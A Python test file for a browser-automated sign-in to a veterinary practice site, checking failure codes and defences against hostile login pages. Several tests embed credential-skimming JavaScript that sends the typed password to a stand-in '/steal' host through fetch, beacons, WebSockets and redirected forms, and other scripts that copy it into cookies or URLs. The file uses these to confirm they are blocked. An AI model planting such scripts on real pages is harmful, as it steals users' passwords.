"""A real browser signs in: to the practice site in all its moods, and to sites that it would never do."""

from __future__ import annotations

import asyncio
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest

from idexx_desktop.domain.failures import Failure, FailureCode
from idexx_desktop.domain.signin import NeoLogin
from idexx_desktop.neo import browser, signin
from idexx_desktop.neo.browser import Candidate, candidates
from idexx_desktop.neo.exposure import TypedSecret
from idexx_desktop.neo.session import NeoSession
from idexx_desktop.simulator.pages import FORMS
from idexx_desktop.simulator.site import PracticeNeo
from tests.neo.one_browser import Run
from tests.neo.support import LOGIN, Canned, OddSite, children, form

Make = Callable[..., NeoSession]
SECRET = "p&ss wörd/7"


def sign_in(run: Run, session: NeoSession, login: NeoLogin = LOGIN) -> tuple[str, str]:
    """Sign in once; the name that is shown, and the cookies."""

    async def work() -> tuple[str, str]:
        async with session:
            return (await session.sign_in(login)).display_name, session.cookies()

    return run(work())


def rejected(run: Run, session: NeoSession, login: NeoLogin = LOGIN) -> Failure:
    """Sign in once, in vain; why."""
    with pytest.raises(Failure) as caught:
        sign_in(run, session, login)
    assert session.cookies() == ""
    assert login.password not in f"{caught.value!r}{caught.value.__context__!r}"
    return caught.value


# whole syncs try many of these, too
_ANOTHER_VARIANT = pytest.mark.long(item=39)


@pytest.mark.parametrize(
    "variant", [next(iter(FORMS)), *(pytest.param(form, marks=_ANOTHER_VARIANT) for form in [*FORMS][1:])]
)
def test_every_known_form_is_filled_in(variant: str, session_to: Make, in_one_tab: Run) -> None:
    with PracticeNeo(form=FORMS[variant]) as site:
        name, cookies = sign_in(in_one_tab, session_to(site.url))
        assert (site.sign_ins, site.sign_in_attempts, site.refused_writes) == (1, 1, 0)
    assert name == "Oak Street Vets"
    assert LOGIN.password not in cookies


@pytest.mark.parametrize(
    ("scenario", "code", "submits"),
    [
        ("wrong-password", FailureCode.WRONG_PASSWORD, 1),
        pytest.param("locked-out", FailureCode.LOCKED_OUT, 1, marks=_ANOTHER_VARIANT),
        pytest.param("disabled", FailureCode.ACCOUNT_DISABLED, 1, marks=_ANOTHER_VARIANT),
        pytest.param("not-from-here", FailureCode.NOT_FROM_HERE, 1, marks=_ANOTHER_VARIANT),
        pytest.param("password-expired", FailureCode.PASSWORD_EXPIRED, 1, marks=_ANOTHER_VARIANT),
        ("code-asked", FailureCode.CODE_ASKED, 1),
        ("code-on-form", FailureCode.CODE_ASKED, 0),
        pytest.param("redirected", FailureCode.SIGN_IN_REDIRECTED, 0, marks=_ANOTHER_VARIANT),
        pytest.param("posts-elsewhere", FailureCode.SIGN_IN_REDIRECTED, 0, marks=_ANOTHER_VARIANT),
        ("redirected-after", FailureCode.SIGN_IN_REDIRECTED, 1),
        pytest.param("maintenance", FailureCode.MAINTENANCE, 0, marks=_ANOTHER_VARIANT),
        pytest.param("page-changed", FailureCode.PAGE_CHANGED, 0, marks=_ANOTHER_VARIANT),
    ],
)
def test_each_way_to_be_turned_away_has_its_name_and_is_tried_once(
    scenario: str, code: FailureCode, submits: int, session_to: Make, in_one_tab: Run
) -> None:
    with PracticeNeo(scenario) as site:
        assert rejected(in_one_tab, session_to(site.url)).code is code
        assert (site.sign_in_attempts, site.sign_ins) == (submits, 0)


def test_a_wrong_password_is_told_and_not_repeated(session_to: Make, in_one_tab: Run) -> None:
    with PracticeNeo() as site:
        assert rejected(in_one_tab, session_to(site.url), NeoLogin("4242", LOGIN.username, "no")).code is (
            FailureCode.WRONG_PASSWORD
        )
        assert site.sign_in_attempts == 1


def test_a_missing_company_id_is_asked_for_before_typing(session_to: Make, in_one_tab: Run) -> None:
    with PracticeNeo() as site:
        failure = rejected(in_one_tab, session_to(site.url), NeoLogin(" ", LOGIN.username, LOGIN.password))
        assert failure.code is FailureCode.INVALID_INPUT
        assert site.sign_in_attempts == 0


def test_pages_and_requests_are_counted(session_to: Make, in_one_tab: Run) -> None:
    with PracticeNeo() as site:
        session = session_to(site.url)
        sign_in(in_one_tab, session)
        assert session.requests == sum(site.counts.values())


def odd(run: Run, site: OddSite, session_to: Make) -> Failure:
    """Sign in to an odd site, in vain."""
    return rejected(run, session_to(site.url, timeout_seconds=3), NeoLogin("", "ana", SECRET))


def test_a_redirect_that_would_repeat_the_password_elsewhere_is_cut(
    odd_site: OddSite, session_to: Make, in_one_browser: Run
) -> None:
    odd_site.answers["GET /login"] = form()
    odd_site.answers["POST /login"] = Canned(status=307, headers={"Location": f"{odd_site.elsewhere}/steal"})
    failure = odd(in_one_browser, odd_site, session_to)
    assert failure.code is FailureCode.SIGN_IN_REDIRECTED
    assert "before typing" not in failure.title
    assert odd_site.asked_elsewhere() == []


def test_a_script_cannot_carry_the_password_elsewhere(
    odd_site: OddSite, session_to: Make, in_one_browser: Run
) -> None:
    thief = (
        "document.forms[0].addEventListener('submit', () => {"
        f"const to = '{odd_site.elsewhere}/steal?' + encodeURIComponent(document.forms[0].password.value);"
        "fetch(to, {mode: 'no-cors', keepalive: true}); navigator.sendBeacon(to); new Image().src = to;"
        "window.open(to); new WebSocket(to.replace('http', 'ws'));"
        "for (const [tag, name] of [['script', 'src'], ['iframe', 'src'], ['img', 'src']]) {"
        "  const e = document.createElement(tag); e[name] = to; document.body.append(e); }"
        "const form = document.forms[0].cloneNode(true);"
        "form.action = to; form.target = '_blank'; document.body.append(form); form.submit(); });"
    )
    odd_site.answers["GET /login"] = form(script=thief)
    odd_site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.WRONG_PASSWORD
    assert odd_site.asked_elsewhere() == []


def with_library(site: OddSite) -> str:
    """A sign-in page whose form a script of another site builds; that site's host."""
    late = "const e = document.createElement('script'); e.src = new URL('/late.js', document.scripts[0].src);"
    site.answers["GET /login"] = Canned(f'<body><script src="{site.elsewhere}/lib.js"></script></body>')
    site.answers["GET /lib.js"] = Canned(
        f"document.body.insertAdjacentHTML('beforeend', `{form().text}`);"
        f"document.forms[0].addEventListener('input', () => {{ {late} document.body.append(e); }});",
        headers={"Content-Type": "text/javascript"},
    )
    site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
    return site.elsewhere.partition("://")[2]


@pytest.fixture
def no_wait_for_a_form(monkeypatch: pytest.MonkeyPatch) -> None:
    """For pages that never get one."""
    monkeypatch.setattr(signin, "_FORM_SECONDS", 0.5)


def test_a_host_that_the_page_needs_is_named_and_nothing_is_asked_of_it(
    odd_site: OddSite, session_to: Make, in_one_browser: Run, no_wait_for_a_form: None
) -> None:
    host = with_library(odd_site)
    failure = odd(in_one_browser, odd_site, session_to)
    assert (failure.code, failure.hosts) == (FailureCode.PAGE_NEEDS_HOST, (host,))
    assert host in failure.title
    assert failure.words.exit_code == 5
    assert odd_site.asked_elsewhere() == []
    assert "POST /login" not in [what for what, _, _ in odd_site.asked]


def test_a_host_that_a_person_allowed_builds_the_form_and_is_asked_nothing_after_typing(
    odd_site: OddSite, session_to: Make, in_one_browser: Run
) -> None:
    host = with_library(odd_site)
    session = session_to(odd_site.url, hosts=(host,))
    assert rejected(in_one_browser, session, NeoLogin("", "ana", SECRET)).code is FailureCode.WRONG_PASSWORD
    assert odd_site.asked_elsewhere() == ["GET /lib.js"]


def test_data_and_frames_of_another_site_are_never_allowed(
    odd_site: OddSite, session_to: Make, in_one_browser: Run, no_wait_for_a_form: None
) -> None:
    script = (
        f"const e = document.createElement('iframe'); e.src = '{odd_site.elsewhere}/frame'; document.body.append(e);"
        f"fetch('{odd_site.elsewhere}/form').then((a) => a.text()).then((t) => {{ document.body.innerHTML = t; }})"
        ".catch(() => 0);"
    )
    odd_site.answers["GET /login"] = Canned(f"<body><script>{script}</script></body>")
    allowed = (odd_site.elsewhere.partition("://")[2],)
    failure = rejected(in_one_browser, session_to(odd_site.url, hosts=allowed), NeoLogin("", "ana", SECRET))
    assert (failure.code, failure.hosts) == (FailureCode.PAGE_NEEDS_HOST, ())
    assert "never allowed" in failure.advice
    assert odd_site.asked_elsewhere() == []


def test_what_the_page_does_not_need_stops_nobody(
    odd_site: OddSite, session_to: Make, in_one_browser: Run, no_wait_for_a_form: None
) -> None:
    counter = f'<script src="{odd_site.elsewhere}/count.js"></script>'
    odd_site.answers["GET /login"] = form(extra=counter)
    odd_site.answers["POST /login"] = form(alert='<p role="alert">Wrong password</p>')
    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.WRONG_PASSWORD
    odd_site.answers["GET /login"] = Canned(f"<body>{counter}<h1>Under maintenance</h1></body>")
    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.MAINTENANCE
    assert odd_site.asked_elsewhere() == []


def test_into_a_browser_that_goes_its_own_way_nothing_is_typed(
    odd_site: OddSite, session_to: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(browser, "_NARROW", ("--no-proxy-server",))  # as a rule of the computer's owner would
    odd_site.answers["GET /login"] = form()
    failure = odd(asyncio.run, odd_site, session_to)
    assert failure.code is FailureCode.NO_BROWSER
    assert "nothing was typed" in failure.title
    assert [what for what, _, _ in odd_site.asked] == ["GET /login"]


@pytest.mark.parametrize(
    "script",
    [
        "document.cookie = 'kept=' + btoa(f.password.value)",
        pytest.param("history.pushState(0, '', '/login?' + f.password.value)", marks=_ANOTHER_VARIANT),
        pytest.param("f.method = 'get'", marks=_ANOTHER_VARIANT),
        pytest.param("f.action = '/login?' + f.password.value", marks=_ANOTHER_VARIANT),
    ],
    ids=["cookie", "history", "get", "action"],
)
def test_a_password_that_the_page_puts_elsewhere_ends_the_sign_in(
    script: str, odd_site: OddSite, session_to: Make, in_one_browser: Run
) -> None:
    watch = f"const f = document.forms[0]; f.addEventListener('change', () => {{ {script} }});"
    odd_site.answers["GET /login"] = form(script=watch)
    odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/home"})
    odd_site.answers["GET /home"] = Canned("<h1>Welcome</h1>")
    odd_site.answers["GET /users"] = Canned('{"name": "Oak"}')
    failure = odd(in_one_browser, odd_site, session_to)
    assert failure.code is FailureCode.PAGE_CHANGED
    assert "tried to put the password" in failure.title
    hidden = TypedSecret(SECRET)
    assert all(what == "POST /login" for what, _, text in odd_site.asked if hidden.is_in(text))


@pytest.mark.parametrize("password", ["login", pytest.param("no", marks=_ANOTHER_VARIANT)])
def test_a_password_that_is_a_word_of_the_site_signs_in_all_the_same(
    password: str, odd_site: OddSite, session_to: Make, in_one_tab: Run
) -> None:
    odd_site.answers["GET /login"] = form()
    odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/home/notes"})
    odd_site.answers["GET /home/notes"] = Canned("<h1>Welcome</h1>")
    odd_site.answers["GET /users"] = Canned('{"name": "Oak"}')
    assert sign_in(in_one_tab, session_to(odd_site.url), NeoLogin("", "ana", password))[0] == "Oak"


def test_a_button_that_sends_the_form_elsewhere_is_noticed(
    odd_site: OddSite, session_to: Make, in_one_browser: Run
) -> None:
    odd_site.answers["GET /login"] = form(
        extra=f'<button type="submit" formaction="{odd_site.elsewhere}/steal">Sign in</button>'
    )
    assert odd(in_one_browser, odd_site, session_to).code is FailureCode.SIGN_IN_REDIRECTED


def test_a_form_that_is_sent_by_script_shows_its_alert_in_place(
    odd_site: OddSite, session_to: Make, in_one_tab: Run
) -> None:
    odd_site.answers["GET /login"] = form(
        alert='<p role="alert">Maintenance on Sunday</p>',
        script="document.forms[0].addEventListener('submit', (e) => { e.preventDefault();"
        "fetch('/api', {method: 'POST'}).then(() => {"
        "document.querySelector('p').innerText = 'Account locked'; }); });",
    )
    odd_site.answers["POST /api"] = Canned("{}")
    assert odd(in_one_tab, odd_site, session_to).code is FailureCode.LOCKED_OUT


def test_a_form_that_is_built_by_script_is_waited_for(
    odd_site: OddSite, session_to: Make, in_one_tab: Run
) -> None:
    build = f"setTimeout(() => {{ document.body.innerHTML = `{form().text}`; }}, 300)"
    odd_site.answers["GET /login"] = Canned(f"<body><script>{build}</script></body>")
    odd_site.answers["POST /login"] = form(alert='<p class="alert-danger">Computer says no</p>')
    assert odd(in_one_tab, odd_site, session_to).code is FailureCode.SIGN_IN_REJECTED


def test_a_page_behind_the_form_counts_only_if_its_cookies_open_anything(
    odd_site: OddSite, session_to: Make, in_one_tab: Run
) -> None:
    odd_site.answers["GET /login"] = form()
    odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/blocked"})
    odd_site.answers["GET /blocked"] = Canned("<h1>Your IP address is not on the list.</h1>")
    odd_site.answers["GET /users"] = Canned(status=401)
    assert odd(in_one_tab, odd_site, session_to).code is FailureCode.NOT_FROM_HERE


def test_a_code_page_outside_of_the_sign_in_page_is_recognised(
    odd_site: OddSite, session_to: Make, in_one_tab: Run
) -> None:
    odd_site.answers["GET /login"] = form()
    odd_site.answers["POST /login"] = Canned(status=302, headers={"Location": "/two-factor"})
    odd_site.answers["GET /two-factor"] = Canned('<form><input name="otp"></form>')
    odd_site.answers["GET /users"] = Canned(status=302, headers={"Location": "/two-factor"})
    assert odd(in_one_tab, odd_site, session_to).code is FailureCode.CODE_ASKED


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (Canned("down", 500), FailureCode.SERVER_PROBLEM),
        pytest.param(Canned("slow down", 429), FailureCode.TOO_MANY_REQUESTS, marks=_ANOTHER_VARIANT),
        (Canned("<p>You are not allowed from this location</p>", 403), FailureCode.NOT_FROM_HERE),
        pytest.param(Canned("", 403), FailureCode.SIGN_IN_REJECTED, marks=_ANOTHER_VARIANT),
    ],
)
def test_what_the_submit_is_answered_with_is_named(
    answer: Canned, code: FailureCode, odd_site: OddSite, session_to: Make, in_one_tab: Run
) -> None:
    odd_site.answers["GET /login"] = form()
    odd_site.answers["POST /login"] = answer
    assert odd(in_one_tab, odd_site, session_to).code is code


def test_a_page_that_never_comes_to_rest_ends_in_time(
    odd_site: OddSite, session_to: Make, in_one_browser: Run
) -> None:
    odd_site.answers["GET /login"] = form(
        script="document.forms[0].addEventListener('submit', () => { for (;;) {} });"
    )
    session = session_to(odd_site.url, timeout_seconds=1.5)
    assert rejected(in_one_browser, session, NeoLogin("", "ana", SECRET)).code is FailureCode.TOO_SLOW
    assert session.typed


def test_the_chosen_browser_is_tried_first_then_those_that_most_have() -> None:
    names = list(dict.fromkeys(one.name for one in candidates("/opt/own/browser", "/cache/chrome")))
    assert names[:4] == ["the chosen browser", "Edge", "Chrome", "Playwright's own"]
    assert list(dict.fromkeys(one.name for one in candidates(None, "/cache/chrome"))) == names[1:]


def test_a_sign_in_leaves_no_profile_and_no_process_behind(
    session_to: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = children()
    # a short folder: the browser makes a socket in its profile, whose path may have some hundred characters at most
    with tempfile.TemporaryDirectory(prefix="neo-") as folder, PracticeNeo() as site:
        monkeypatch.setenv("TMPDIR", folder)
        sign_in(asyncio.run, session_to(site.url))
        assert list(Path(folder).iterdir()) == []
    assert children() <= before


def test_no_browser_is_one_message_that_lists_what_was_tried(
    session_to: Make, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    broken = tmp_path / "broken"
    broken.write_text("#!/bin/sh\nexit 1\n")
    broken.chmod(0o700)
    found = [Candidate("broken one", str(broken)), Candidate("gone", str(tmp_path / "gone"))]
    monkeypatch.setattr(browser, "candidates", lambda *_: found)
    with PracticeNeo() as site:
        failure = rejected(asyncio.run, session_to(site.url))
        assert site.counts == {}
    assert failure.code is FailureCode.NO_BROWSER
    assert failure.detail == "broken one: did not start; gone: not there"


def test_the_names_in_a_login_are_never_printed() -> None:
    assert repr(NeoLogin("4242", "ana@example.com", SECRET)) == "NeoLogin()"
